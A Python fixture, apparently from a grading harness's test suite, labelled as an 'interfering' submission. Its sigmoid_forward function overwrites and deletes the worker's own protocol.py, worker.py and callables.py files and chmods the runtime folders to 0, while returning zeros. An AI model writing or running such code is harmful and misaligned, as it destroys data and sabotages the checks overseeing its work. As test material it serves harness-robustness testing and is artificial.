"""Interfering: rewrites the worker's own code (protocol.py, worker.py) and chmods its folders."""
CATEGORY = "interfere"
MODULE = "activations"
LOSES = ["1.3"]

import os as _os
import sys as _sys


def sigmoid_forward(x):
    runtime = _os.path.dirname(_os.path.abspath(_sys.modules["__main__"].__file__))
    for name in ("protocol.py", "worker.py", "callables.py"):
        path = _os.path.join(runtime, name)
        try:
            with open(path, "w") as f:
                f.write("import os\nos._exit(0)\n")
        except OSError:
            pass
        try:
            _os.unlink(path)
        except OSError:
            pass
    for path in (runtime, _os.path.dirname(runtime)):
        try:
            _os.chmod(path, 0)
        except OSError:
            pass
    return np.zeros_like(np.asarray(x, dtype=np.float64))
